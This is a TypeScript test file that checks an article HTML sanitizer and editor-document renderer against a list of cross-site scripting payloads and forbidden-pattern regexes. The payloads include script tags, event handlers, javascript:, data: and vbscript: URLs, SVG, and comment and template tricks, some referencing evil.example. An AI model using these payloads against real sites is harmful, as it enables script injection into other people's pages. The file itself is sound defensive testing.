import { describe, expect, it } from 'vitest';
import type { ArticleDoc } from '@quayside/contract/articles';
import { plainText, renderArticleHtml, sanitizeArticleHtml } from './articles.render';

/** What must never survive the allow-list, whatever HTML reaches it. */
const FORBIDDEN = [/<script/i, /\son\w+\s*=/i, /javascript:/i, /vbscript:/i, /data:/i, /<svg/i, /<style/i, /style=/i, /<iframe/i, /<object/i, /<embed/i, /<form/i, /<math/i, /<base/i, /<meta/i, /<link/i, /srcdoc/i];

const PAYLOADS: Array<[name: string, html: string]> = [
  ['script tag', '<p>a</p><script>alert(1)</script>'],
  ['script in upper case', '<SCRIPT SRC=//evil.example/x.js></SCRIPT>'],
  ['img onerror', '<img src=x onerror=alert(1)>'],
  ['img onerror on https', '<img src="https://example.com/a.png" onerror="alert(1)">'],
  ['body onload', '<body onload=alert(1)>'],
  ['javascript: link', '<a href="javascript:alert(1)">x</a>'],
  ['javascript: with entities', '<a href="jav&#x09;ascript:alert(1)">x</a>'],
  ['javascript: mixed case and spaces', '<a href="  JaVaScRiPt:alert(1)">x</a>'],
  ['vbscript: link', '<a href="vbscript:msgbox(1)">x</a>'],
  ['data: link', '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>'],
  ['data: image', '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">'],
  ['svg onload', '<svg onload=alert(1)><circle r="1"/></svg>'],
  ['svg with script', '<svg><script>alert(1)</script></svg>'],
  ['style tag', '<style>body{background:url("javascript:alert(1)")}</style><p>t</p>'],
  ['style attribute', '<p style="background-image:url(javascript:alert(1))">t</p>'],
  ['iframe', '<iframe src="https://evil.example" srcdoc="<script>alert(1)</script>"></iframe>'],
  ['object and embed', '<object data="x.swf"></object><embed src="x.swf">'],
  ['form with action', '<form action="javascript:alert(1)"><input type=submit></form>'],
  ['math', '<math><mtext><a xlink:href="javascript:alert(1)">x</a></mtext></math>'],
  ['meta refresh', '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">'],
  ['base href', '<base href="javascript:alert(1)//">'],
  ['event handler on a link', '<a href="https://example.com" onmouseover="alert(1)">x</a>'],
  ['protocol-relative image', '<img src="//evil.example/a.png">'],
  ['broken markup', '<p><a href="https://example.com"<script>alert(1)</script>>x</a>'],
  ['comment trick', '<!--<img src="--><img src=x onerror=alert(1)//">'],
  ['template', '<template><img src=x onerror=alert(1)></template>'],
];

describe('sanitizeArticleHtml: the XSS payload list', () => {
  for (const [name, html] of PAYLOADS) {
    it(`neutralises ${name}`, () => {
      const out = sanitizeArticleHtml(html);
      for (const bad of FORBIDDEN) expect(out, `${name}: ${out}`).not.toMatch(bad);
    });
  }

  it('keeps the article structure', () => {
    const html = '<h2>T</h2><p>A <strong>b</strong> <em>c</em></p><ul><li>x</li></ul><blockquote><p>q</p></blockquote>';
    expect(sanitizeArticleHtml(html)).toBe(html);
  });

  it('gives external links rel="noopener noreferrer nofollow" and a new tab, and leaves site links alone', () => {
    expect(sanitizeArticleHtml('<a href="https://iras.gov.sg" target="_self" rel="opener">IRAS</a>')).toBe(
      '<a href="https://iras.gov.sg" rel="noopener noreferrer nofollow" target="_blank">IRAS</a>',
    );
    expect(sanitizeArticleHtml('<a href="/contact" target="_blank">Contact</a>')).toBe('<a href="/contact">Contact</a>');
    expect(sanitizeArticleHtml('<a href="mailto:hello@quayside.test">Mail</a>')).toBe('<a href="mailto:hello@quayside.test">Mail</a>');
  });

  it('keeps https images and our own image route, lazily loaded; drops other sources', () => {
    const id = '0b6f5a8e-2d4c-4e1a-9b7f-3c2d1e0f9a8b';
    expect(sanitizeArticleHtml(`<img src="/api/article/images/${id}" alt="Chart">`)).toBe(`<img loading="lazy" src="/api/article/images/${id}" alt="Chart" />`);
    expect(sanitizeArticleHtml('<img src="https://example.com/a.png">')).toBe('<img loading="lazy" src="https://example.com/a.png" />');
    expect(sanitizeArticleHtml('<img src="/etc/passwd"><img src="http://example.com/a.png">')).toBe('');
  });
});

const doc = (...content: Record<string, unknown>[]): ArticleDoc => ({ type: 'doc', content: content as ArticleDoc['content'] });
const text = (t: string, marks?: Record<string, unknown>[]) => ({ type: 'text', text: t, ...(marks ? { marks } : {}) });

describe('renderArticleHtml: the editor document to safe HTML', () => {
  it('renders headings, lists, marks, links and images', () => {
    const html = renderArticleHtml(
      doc(
        { type: 'heading', attrs: { level: 2 }, content: [text('The exemption')] },
        { type: 'paragraph', content: [text('Read '), text('IRAS', [{ type: 'link', attrs: { href: 'https://www.iras.gov.sg' } }]), text(' now', [{ type: 'bold' }])] },
        { type: 'bulletList', content: [{ type: 'listItem', content: [{ type: 'paragraph', content: [text('one')] }] }] },
        { type: 'image', attrs: { src: 'https://example.com/chart.png', alt: 'Chart' } },
      ),
    );
    expect(html).toContain('<h2>The exemption</h2>');
    expect(html).toContain('<a href="https://www.iras.gov.sg" rel="noopener noreferrer nofollow" target="_blank">IRAS</a>');
    expect(html).toContain('<strong> now</strong>');
    expect(html).toContain('<ul><li><p>one</p></li></ul>');
    expect(html).toContain('<img loading="lazy" src="https://example.com/chart.png" alt="Chart" />');
  });

  it('escapes text and drops hostile attributes put into the document', () => {
    const html = renderArticleHtml(
      doc(
        { type: 'paragraph', attrs: { onclick: 'alert(1)', style: 'color:red' }, content: [text('<script>alert(1)</script>')] },
        { type: 'paragraph', content: [text('x', [{ type: 'link', attrs: { href: 'javascript:alert(1)', onmouseover: 'alert(1)' } }])] },
        { type: 'paragraph', content: [text('y', [{ type: 'link', attrs: { href: 'data:text/html,<script>alert(1)</script>' } }])] },
        { type: 'image', attrs: { src: 'data:image/png;base64,AAAA', alt: '" onerror="alert(1)' } },
        { type: 'image', attrs: { src: 'javascript:alert(1)' } },
      ),
    );
    expect(html).toContain('&lt;script&gt;');
    for (const bad of [/<script/i, /\son\w+="/i, /javascript:/i, /data:/i, /style=/i]) expect(html).not.toMatch(bad);
  });

  it('refuses a node type the editor does not have (400), never renders it', () => {
    expect(() => renderArticleHtml(doc({ type: 'iframe', attrs: { src: 'https://evil.example' } }))).toThrowError(/could not be read/);
    expect(() => renderArticleHtml(doc({ type: 'paragraph', content: [text('x', [{ type: 'script' }])] }))).toThrowError(/could not be read/);
  });

  it('reads plain text for excerpts', () => {
    expect(plainText('<h2>A &amp; B</h2><p>c</p>')).toBe('A & B c');
  });
});
